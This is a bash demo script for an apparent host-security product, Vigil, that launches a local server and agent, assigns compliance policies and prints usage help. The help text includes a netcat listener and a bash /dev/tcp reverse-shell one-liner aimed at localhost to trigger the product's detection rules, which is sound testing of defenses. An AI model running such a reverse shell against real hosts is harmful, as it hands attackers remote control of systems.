#!/usr/bin/env bash
# make demo: starts a center and a local agent on the embedded defaults
# (SQLite, embedded NATS) under .demo/, prints where to look, and stops both
# on Ctrl-C. Run `make build` first (make demo does).
set -euo pipefail
cd "$(dirname "$0")/.."
bin=$PWD/bin
demo=${VIGIL_DEMO_DIR:-$PWD/.demo}
http=${VIGIL_DEMO_HTTP:-127.0.0.1:8443}
nats=${VIGIL_DEMO_NATS:-127.0.0.1:4222}
mkdir -p "$demo"

pids=()
cleanup() {
	for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null || true; done
	wait 2>/dev/null || true
}
trap cleanup EXIT INT TERM

"$bin/vigil-center" --data "$demo/center" --http "$http" --nats "$nats" >"$demo/center.log" 2>&1 &
pids+=($!)

export VIGIL_SERVER="https://$http" VIGIL_CA="$demo/center/tls/ca.pem"
for _ in $(seq 1 100); do
	if [ -s "$demo/center/admin.token" ]; then
		VIGIL_TOKEN=$(cat "$demo/center/admin.token") "$bin/vigil" agents list >/dev/null 2>&1 && break
	fi
	sleep 0.2
done
export VIGIL_TOKEN=$(cat "$demo/center/admin.token" 2>/dev/null)
if ! "$bin/vigil" agents list >/dev/null; then
	echo "vigil-center did not start; see $demo/center.log" >&2
	exit 1
fi

if [ ! -s "$demo/console.password" ]; then
	head -c 12 /dev/urandom | base64 | tr -d '/+=' >"$demo/console.password"
	chmod 600 "$demo/console.password"
	"$bin/vigil" users create admin --role admin --password-stdin <"$demo/console.password" >/dev/null
fi

# The demo host evaluates the CIS benchmark of its system and MLPS 2.0
# level 3 (the other CIS policies report themselves not applicable).
for policy in cis_debian12 cis_ubuntu2204 cis_rhel9 mlps_level3; do
	"$bin/vigil" compliance assign "$policy" --selector env=demo >/dev/null
done

join=""
[ -f "$demo/agent/identity.json" ] || join=$("$bin/vigil" token create --ttl 1h --labels env=demo)
"$bin/vigil-agent" --center "https://$http" --token "$join" --data "$demo/agent" >"$demo/agent.log" 2>&1 &
pids+=($!)

for _ in $(seq 1 50); do
	"$bin/vigil" agents list --status online -o json 2>/dev/null | grep -q '"id"' && break
	sleep 0.2
done

cat <<TEXT

Vigil demo is running (data in $demo, logs center.log and agent.log).

  Console   https://$http/   user admin, password $(cat "$demo/console.password")
            (the certificate is signed by the demo's own CA: $VIGIL_CA)
  CLI       export VIGIL_SERVER=$VIGIL_SERVER VIGIL_CA=$VIGIL_CA VIGIL_TOKEN=$VIGIL_TOKEN
            bin/vigil agents list
            bin/vigil agents exec status --selector env=demo
            bin/vigil events tail

Detection runs the shipped rules (bin/vigil rules list). With a listener on
127.0.0.1:4444 (nc -l 4444), try a reverse shell: bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'
then see bin/vigil alerts list, bin/vigil incidents list, and the console's Incidents page.

Risk and compliance: the inventory is in bin/vigil assets; import OSV data
(bin/vigil vulndb import FILE.zip) and see bin/vigil vulns and bin/vigil
weak-passwords. The host's CIS and MLPS 2.0 results arrive within a minute:
bin/vigil compliance summary, bin/vigil compliance results --status fail --lang zh,
bin/vigil compliance report --agent ID --lang zh, and the console's Risk and
Compliance pages.

Stop the agent with kill -9 $(echo "${pids[1]}") and watch it turn "lost" with an alert
(bin/vigil alerts list). Ctrl-C stops the demo.

TEXT
"$bin/vigil" agents list || true
wait
